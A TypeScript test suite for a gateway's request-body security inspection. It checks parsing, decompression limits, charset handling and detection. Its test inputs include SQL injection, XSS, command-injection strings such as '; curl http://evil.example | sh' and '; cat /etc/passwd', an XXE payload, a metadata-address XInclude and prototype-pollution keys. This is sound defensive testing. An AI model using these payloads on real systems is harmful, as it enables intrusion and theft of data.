import { PassThrough } from 'node:stream';
import type { IncomingMessage } from 'node:http';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { GatewayError } from '../../src/errors.js';
import {
  bodyType,
  decodeContentEncoding,
  decodeJsonText,
  decodeText,
  formView,
  inspectBufferedBody,
  inspectJsonBody,
  jsonEncoding,
  looksBinary,
  readBody,
  textView,
} from '../../src/security/body-inspection.js';
import { MAX_BODY_DEPTH, type InspectOptions } from '../../src/security/detect/index.js';
import { jsonView, TooComplex } from '../../src/security/json-view.js';
import { decodeExtendedValue, parseDisposition, parseMediaType } from '../../src/security/media-type.js';

const STRICT: InspectOptions = { mode: 'strict' };
const LIMIT = 1024 * 1024;

function code(fn: () => unknown): string | undefined {
  try {
    fn();
  } catch (err) {
    return err instanceof GatewayError ? err.code : String(err);
  }
  return undefined;
}

describe('bodyType: how a Content-Type is inspected', () => {
  it.each([
    ['application/json', 'json'],
    ['Application/JSON; charset=utf-8', 'json'],
    ['application/vnd.api+json', 'json'],
    ['application/x-www-form-urlencoded', 'form'],
    ['application/x-www-form-urlencoded;charset=UTF-8', 'form'],
    ['multipart/form-data; boundary=abc', 'multipart'],
    ['multipart/mixed; boundary=abc', 'multipart'],
    ['text/plain', 'text'],
    ['text/csv; charset=latin1', 'text'],
    ['application/xml', 'text'],
    ['application/atom+xml', 'text'],
    ['application/yaml', 'text'],
    ['application/graphql', 'text'],
    ['image/png', 'binary'],
    ['application/octet-stream', 'binary'],
    ['application/pdf', 'binary'],
    ['application/zip', 'binary'],
    ['video/mp4', 'binary'],
    [undefined, 'typeless'],
    ['', 'typeless'],
    ['json', 'typeless'],
    ['text/plain; charset="utf-8" junk', 'typeless'],
  ] as const)('%s -> %s', (header, kind) => {
    expect(bodyType(header).kind).toBe(kind);
  });
});

describe('media types and dispositions are parsed strictly', () => {
  it('reads parameters, quoted or not, with escapes undone', () => {
    const m = parseMediaType('multipart/form-data; boundary="a b\\"c"; charset=utf-8')!;
    expect(m.essence).toBe('multipart/form-data');
    expect(m.params.get('boundary')).toEqual({ raw: 'a b\\"c', value: 'a b"c' });
    expect(m.params.get('charset')?.value).toBe('utf-8');
  });

  it('refuses what parsers could read two ways', () => {
    expect(parseMediaType('text/plain; charset=utf-8; charset=latin1')).toBeNull();
    expect(parseMediaType('text/plain; charset="utf-8"x')).toBeNull();
    expect(parseMediaType('text/plain; charset="utf-8')).toBeNull();
    expect(parseMediaType('text')).toBeNull();
    expect(parseDisposition('form-data; name="a"; name="b"')).toBeNull();
    expect(parseDisposition('form-data; name="a\r\nb"')).toBeNull();
    expect(parseDisposition('form-data; name="a"; filename="x.png"')?.params.get('filename')?.value).toBe('x.png');
  });

  it('decodes RFC 8187 extended values in UTF-8 and ISO-8859-1 only', () => {
    expect(decodeExtendedValue("UTF-8''na%C3%AFve%27.txt")).toBe("naïve'.txt");
    expect(decodeExtendedValue("iso-8859-1'en'caf%E9")).toBe('café');
    expect(decodeExtendedValue("koi8-r''x")).toBeNull();
    expect(decodeExtendedValue('no-quotes')).toBeNull();
  });
});

describe('decodeContentEncoding', () => {
  const text = Buffer.from("1' OR '1'='1' --".repeat(10));

  it('undoes gzip, deflate, br, zstd and two stacked codings', () => {
    expect(decodeContentEncoding(gzipSync(text), 'gzip', LIMIT)).toEqual(text);
    expect(decodeContentEncoding(deflateSync(text), 'deflate', LIMIT)).toEqual(text);
    expect(decodeContentEncoding(brotliCompressSync(text), 'br', LIMIT)).toEqual(text);
    expect(decodeContentEncoding(zstdCompressSync(text), 'zstd', LIMIT)).toEqual(text);
    expect(decodeContentEncoding(brotliCompressSync(gzipSync(text)), 'gzip, br', LIMIT)).toEqual(text);
    expect(decodeContentEncoding(text, 'identity', LIMIT)).toBe(text);
  });

  it('stops a decompression bomb at the limit (413), refuses unknown codings (415) and corrupt data (400)', () => {
    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(100 * 1024);
    expect(code(() => decodeContentEncoding(bomb, 'gzip', LIMIT))).toBe('GW_REQUEST_BODY_TOO_LARGE');
    expect(code(() => decodeContentEncoding(text, 'compress', LIMIT))).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
    expect(code(() => decodeContentEncoding(text, 'gzip, gzip, gzip', LIMIT))).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
    expect(code(() => decodeContentEncoding(text, 'gzip', LIMIT))).toBe('GW_REQUEST_INVALID');
  });
});

describe('decoding: text as a text reader would, JSON as a JSON parser reading bytes would', () => {
  const json = '{"q":"x"}';

  it('JSON: BOMs and the NUL pattern of the first four bytes, like Python json', () => {
    expect(jsonEncoding(Buffer.from(json))).toBe('utf-8');
    expect(jsonEncoding(Buffer.from(json, 'utf16le'))).toBe('utf-16le');
    expect(jsonEncoding(Buffer.from(json, 'utf16le').swap16())).toBe('utf-16be');
    expect(decodeJsonText(Buffer.from(json, 'utf16le'))).toBe(json);
    expect(decodeJsonText(Buffer.from(json, 'utf16le').swap16())).toBe(json);
    expect(decodeJsonText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]))).toBe(json);
    const utf32be = Buffer.alloc(json.length * 4);
    for (let i = 0; i < json.length; i++) utf32be.writeUInt32BE(json.charCodeAt(i), i * 4);
    expect(jsonEncoding(utf32be)).toBe('utf-32be');
    expect(decodeJsonText(utf32be)).toBe(json);
  });

  it('text: a declared charset, else a BOM, else UTF-8 (a NUL pattern does not make it UTF-16)', () => {
    expect(decodeText(Buffer.from([0x63, 0x61, 0x66, 0xe9]), 'iso-8859-1')).toBe('café');
    expect(decodeText(Buffer.from(`\ufeff${json}`, 'utf16le'), undefined)).toBe(json);
    expect(decodeText(Buffer.from("\u0000' OR 1=1"), undefined)).toBe("\u0000' OR 1=1");
    expect(code(() => decodeText(Buffer.from('x'), 'x-klingon'))).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
  });

  it('tells binary starts from text ones', () => {
    expect(looksBinary(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'))).toBe(true);
    expect(looksBinary(Buffer.from([0x00, 0x00, 0x00, 0x18, 0x66, 0x74, 0x79, 0x70]))).toBe(true); // MP4
    expect(looksBinary(Buffer.from('plain text\r\n\twith tabs'))).toBe(false);
    expect(looksBinary(Buffer.from('{"q":"utf-16 json"}', 'utf16le'))).toBe(false);
  });
});

describe('jsonView: every duplicate key is kept', () => {
  it('gathers the values of a repeated key, at every level', () => {
    const view = jsonView('{"q":"first","n":1,"q":"second","o":{"k":"a","k":"b","k":"c"},"q":"third"}') as Record<string, unknown>;
    expect(view.q).toEqual(['first', 'second', 'third']);
    expect((view.o as Record<string, unknown>).k).toEqual(['a', 'b', 'c']);
    expect(view.n).toBeNull();
  });

  it('decodes escapes and treats __proto__ as an ordinary key', () => {
    const view = jsonView('{"__proto__":{"x":"\\u0027 OR 1=1"},"s":"a\\"b\\\\"}') as Record<string, unknown>;
    expect(Object.getPrototypeOf(view)).toBe(Object.prototype);
    expect(Object.keys(view)).toEqual(['__proto__', 's']);
    expect((view['__proto__'] as Record<string, unknown>).x).toBe("' OR 1=1");
    expect(view.s).toBe('a"b\\');
  });

  it('matches JSON.parse when there are no duplicates', () => {
    const doc = { a: [1, 'two', { b: null, c: [true, false, 'x\ny'] }], d: '', e: { f: { g: 'h' } } };
    const view = jsonView(JSON.stringify(doc));
    const strings = (v: unknown): unknown => (typeof v === 'string' ? v : Array.isArray(v) ? v.map(strings) : v !== null && typeof v === 'object' ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, strings(x)])) : null);
    expect(strings(view)).toEqual(strings(doc));
  });

  it('stops at MAX_BODY_DEPTH without recursing, however deep the text', () => {
    expect(() => jsonView(`${'['.repeat(MAX_BODY_DEPTH)}${']'.repeat(MAX_BODY_DEPTH)}`)).not.toThrow();
    expect(() => jsonView(`${'['.repeat(MAX_BODY_DEPTH + 1)}${']'.repeat(MAX_BODY_DEPTH + 1)}`)).toThrow(TooComplex);
    expect(() => jsonView(`${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}`)).toThrow(TooComplex);
  });

  // A generous absolute bound (machines running many suites at once are slow): a linear scan
  // of a megabyte takes tens of milliseconds, a quadratic one hours.
  it('views a megabyte of each adversarial shape in seconds at most (linear; a quadratic scan would take hours)', () => {
    const mb = 1024 * 1024;
    const shapes: Record<string, string> = {
      'one key repeated': `{${'"k":"v",'.repeat(mb / 8)}"k":"v"}`,
      escapes: JSON.stringify({ s: '\\"\n'.repeat(mb / 6) }),
      'backslash runs before quotes': JSON.stringify(Array.from({ length: mb / 40 }, () => `${'\\'.repeat(16)}"`)),
      'one long string': JSON.stringify({ s: 'x'.repeat(mb) }),
      'many short strings': JSON.stringify(Array.from({ length: mb / 4 }, () => 'a')),
      'nesting at the limit, repeated': `[${Array.from({ length: mb / (2 * MAX_BODY_DEPTH) }, () => `${'['.repeat(MAX_BODY_DEPTH - 1)}${']'.repeat(MAX_BODY_DEPTH - 1)}`).join(',')}]`,
    };
    for (const [shape, text] of Object.entries(shapes)) {
      const t = performance.now();
      jsonView(text);
      const ms = performance.now() - t;
      expect(ms, `${shape}: ${ms.toFixed(0)} ms`).toBeLessThan(5000);
    }
  });
});

describe('formView and textView', () => {
  it('splits an urlencoded form on & and, where a piece has one, on ; too', () => {
    const view = formView('a=1&b=x;c=%3B%20id&a=2&e=plus+sign');
    expect(view.a).toEqual(['1', '2']);
    expect(view.b).toEqual(['x;c=; id', 'x']);
    expect(view.c).toBe('; id');
    expect(view.e).toBe('plus sign');
  });

  it('inspects a field that is JSON as JSON, a JSON string both ways, and other text as text', () => {
    expect(textView('{"a":"x","a":"y"}').view).toEqual({ a: ['x', 'y'] });
    expect(textView('"\\u0027 OR 1"').view).toEqual(["' OR 1", '"\\u0027 OR 1"']);
    expect(textView('{not json').view).toBe('{not json');
    expect(textView('42').view).toBe('42');
    expect(() => textView('['.repeat(100_000))).toThrow(TooComplex);
  });
});

describe('inspectJsonBody', () => {
  const json = (text: string, options: InspectOptions | undefined = STRICT) => inspectJsonBody(Buffer.from(text), undefined, LIMIT, options);

  it('finds an attack behind a duplicate key whichever of them JSON.parse keeps', () => {
    expect(json('{"q":"1\' OR \'1\'=\'1\' --","q":"hello"}').finding).toMatchObject({ rule: 'sql_injection', field: 'q[0]' });
    expect(json('{"q":"hello","q":"<script>alert(1)</script>"}').finding).toMatchObject({ rule: 'xss' });
  });

  it('refuses keys that reach the prototype, at any depth, and inspects what is under them', () => {
    expect(json('{"__proto__":{"admin":true}}').finding).toEqual({ rule: 'prototype_pollution', location: 'body', field: '?' });
    expect(json('{"user":{"profile":{"constructor":{"prototype":{"isAdmin":true}}}}}').finding).toEqual({ rule: 'prototype_pollution', location: 'body', field: 'user.profile.constructor.?' });
    expect(json('{"items":[{"a.__proto__.b":1}]}').finding).toMatchObject({ rule: 'prototype_pollution' });
    expect(json('{"constructor":"Pipe","prototype":"v2","proto":{"x":1}}').finding).toBeNull();
  });

  it('passes benign duplicates and returns the JSON.parse value for routing', () => {
    const result = json('{"tag":"a","tag":"b"}');
    expect(result.finding).toBeNull();
    expect(result.json?.value).toEqual({ tag: 'b' });
  });

  it('keeps the field modes for duplicates (freeTextFields stay free, textFields stay text)', () => {
    const route: InspectOptions = { mode: 'strict', textFields: new Set(['query']), freeTextFields: new Set(['code']) };
    expect(json('{"code":"x","code":"\' OR 1=1 --"}', route).finding).toBeNull();
    expect(json('{"query":"x","query":"why does \' OR 1=1 -- work?"}', route).finding).toBeNull();
    expect(json('{"query":"x","query":"<script>alert(1)</script>"}', route).finding).toMatchObject({ rule: 'xss' });
  });

  it('400 when it does not parse; 403 too complex for deep nesting, decided in linear time', () => {
    expect(code(() => json('{"a":'))).toBe('GW_REQUEST_INVALID');
    expect(code(() => json('{"a":"\\x"}'))).toBe('GW_REQUEST_INVALID');
    const t = performance.now();
    expect(json(`${'['.repeat(500_000)}${']'.repeat(500_000)}`).finding).toMatchObject({ rule: 'input_too_complex' });
    expect(performance.now() - t).toBeLessThan(200);
  });

  it('reads UTF-16 and a UTF-8 BOM as a JSON parser reading bytes does, and undoes gzip', () => {
    const attack = '{"q":"1\' OR \'1\'=\'1\' --"}';
    expect(inspectJsonBody(Buffer.from(`\ufeff${attack}`, 'utf16le'), undefined, LIMIT, STRICT).finding).toMatchObject({ rule: 'sql_injection' });
    expect(inspectJsonBody(Buffer.from(`\ufeff${attack}`), undefined, LIMIT, STRICT).finding).toMatchObject({ rule: 'sql_injection' });
    expect(inspectJsonBody(gzipSync(attack), 'gzip', LIMIT, STRICT).finding).toMatchObject({ rule: 'sql_injection' });
  });

  it('only parses when validation is off', () => {
    expect(inspectJsonBody(Buffer.from('{"q":"\' OR 1=1 --"}'), undefined, LIMIT, undefined)).toEqual({ finding: null, json: { value: { q: "' OR 1=1 --" } } });
  });
});

describe('inspectBufferedBody', () => {
  const inspect = (body: string | Buffer, contentType: string | undefined, options: InspectOptions = STRICT) =>
    inspectBufferedBody(Buffer.isBuffer(body) ? body : Buffer.from(body), bodyType(contentType), undefined, LIMIT, options);

  it('text/*: one text value, or JSON when it parses', () => {
    expect(inspect("1' OR '1'='1' --", 'text/plain').finding).toMatchObject({ rule: 'sql_injection' });
    expect(inspect('{"note":"fine","note":"; cat /etc/passwd"}', 'text/plain').finding).toMatchObject({ rule: 'command_injection' });
    expect(inspect('<a href="javascript:alert(1)">x</a>', 'text/html').finding).toMatchObject({ rule: 'xss' });
    expect(inspect('Select the best option from the table.', 'text/plain').finding).toBeNull();
    expect(inspect(Buffer.from("1' OR '1'='1' --", 'utf16le'), 'text/plain; charset=utf-16le').finding).toMatchObject({ rule: 'sql_injection' });
    // A leading NUL would make a JSON parser read UTF-16; a text reader reads UTF-8.
    expect(inspect("\u0000 1' OR '1'='1' --", 'text/plain').finding).not.toBeNull();
  });

  it('typeless: JSON (returned for routing) or text; binary starts are not inspected', () => {
    const json = inspect('{"query":"hello"}', undefined);
    expect(json).toEqual({ finding: null, json: { value: { query: 'hello' } } });
    expect(inspect('"1\\u0027 OR \\u00271\\u0027=\\u00271"', undefined).finding).toMatchObject({ rule: 'sql_injection' });
    expect(inspect('; curl http://evil.example | sh', undefined).finding).toMatchObject({ rule: 'command_injection' });
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from("' OR 1=1 --")]);
    expect(inspect(png, undefined).finding).toBeNull();
    // A text start is inspected whole: a binary byte later does not exempt it.
    expect(inspect(`${'a'.repeat(2000)} ' OR '1'='1' --\u0000`, undefined).finding).toMatchObject({ rule: 'sql_injection' });
    // NULs that a JSON parser would take for UTF-16 do not make a text body binary.
    expect(inspect("\u0000 1' OR '1'='1' --", undefined).finding).not.toBeNull();
  });

  it('XML: a DTD that declares entities or loads one, and XInclude, in every XML type and typeless', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>';
    for (const type of ['application/xml', 'text/xml; charset=utf-8', 'image/svg+xml', 'application/soap+xml', undefined]) {
      expect(inspect(xxe, type).finding, String(type)).toEqual({ rule: 'xml_entity', location: 'body' });
    }
    expect(inspect(Buffer.from(xxe, 'utf16le'), 'application/xml; charset=utf-16le').finding).toMatchObject({ rule: 'xml_entity' });
    expect(inspect('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/"/></r>', 'application/xml').finding).toMatchObject({ rule: 'xml_entity' });
    expect(inspect('<?xml version="1.0"?><order><item sku="42">Tea</item></order>', 'application/xml').finding).toBeNull();
  });

  it('forms and text bodies: keys that reach the prototype', () => {
    const form = 'application/x-www-form-urlencoded';
    expect(inspect('__proto__[admin]=1&x=2', form).finding).toEqual({ rule: 'prototype_pollution', location: 'body', field: '?' });
    expect(inspect('a=1;constructor[prototype][admin]=1', form).finding).toMatchObject({ rule: 'prototype_pollution' });
    expect(inspect('{"a":{"__proto__":{"admin":true}}}', 'text/plain').finding).toMatchObject({ rule: 'prototype_pollution', field: 'a.?' });
    expect(inspect('{"constructor":{"prototype":{"admin":true}}}', undefined).finding).toMatchObject({ rule: 'prototype_pollution' });
  });

  it('forms: names and values, under both & and ; splitting, with field modes', () => {
    const form = 'application/x-www-form-urlencoded';
    expect(inspect('q=%27%20OR%201%3D1%20--', form).finding).toMatchObject({ rule: 'sql_injection', field: 'q' });
    expect(inspect('%3Cscript%3Ealert(1)%3C%2Fscript%3E=x', form).finding).toMatchObject({ rule: 'xss' });
    const route: InspectOptions = { mode: 'strict', freeTextFields: new Set(['code']) };
    // WHATWG reads one free `code` field; python-multipart reads a second field `q`.
    expect(inspect('code=anything;q=%3B%20cat%20%2Fetc%2Fpasswd', form, route).finding).toMatchObject({ rule: 'command_injection', field: 'q' });
    expect(inspect('code=%27%20OR%201%3D1%20--', form, route).finding).toBeNull();
    expect(inspect('name=O%27Reilly&msg=see+you+at+5%3B+bring+snacks', form).finding).toBeNull();
    expect(code(() => inspect('a=b', `${form}; charset=utf-16`))).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
  });

  it('too many values is input_too_complex, as for JSON', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => `f${i}=x`).join('&');
    expect(inspect(many, 'application/x-www-form-urlencoded').finding).toMatchObject({ rule: 'input_too_complex' });
  });
});

/** A stand-in for an IncomingMessage that nobody has read yet. */
function fakeRequest(chunks: readonly Buffer[]): IncomingMessage {
  const stream = new PassThrough() as PassThrough & { complete: boolean };
  stream.complete = false;
  stream.on('end', () => (stream.complete = true));
  for (const c of chunks) stream.write(c);
  stream.end();
  return stream as unknown as IncomingMessage;
}

async function drain(stream: IncomingMessage): Promise<Buffer> {
  const out: Buffer[] = [];
  for await (const c of stream) out.push(c as Buffer);
  return Buffer.concat(out);
}

describe('readBody', () => {
  it('reads the whole body, and 413 past the limit', async () => {
    const body = Buffer.from('x'.repeat(5000));
    expect(await readBody(fakeRequest([body.subarray(0, 10), body.subarray(10)]), 5000)).toEqual({ body, binary: false });
    await expect(readBody(fakeRequest([body]), 4999)).rejects.toMatchObject({ code: 'GW_REQUEST_BODY_TOO_LARGE' });
  });

  it('with a sniff, puts a binary start back in front of the stream, whole', async () => {
    const body = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(100_000, 7)]);
    const request = fakeRequest([body.subarray(0, 3000), body.subarray(3000)]);
    expect(await readBody(request, 1000, looksBinary)).toBeNull();
    expect(await drain(request)).toEqual(body);
  });

  it('with a sniff, reads a text body whole, and says when a short body is binary', async () => {
    const text = Buffer.from('hello '.repeat(1000));
    expect(await readBody(fakeRequest([text]), LIMIT, looksBinary)).toEqual({ body: text, binary: false });
    const short = Buffer.from([0, 1, 2, 3]);
    expect(await readBody(fakeRequest([short]), LIMIT, looksBinary)).toEqual({ body: short, binary: true });
  });
});
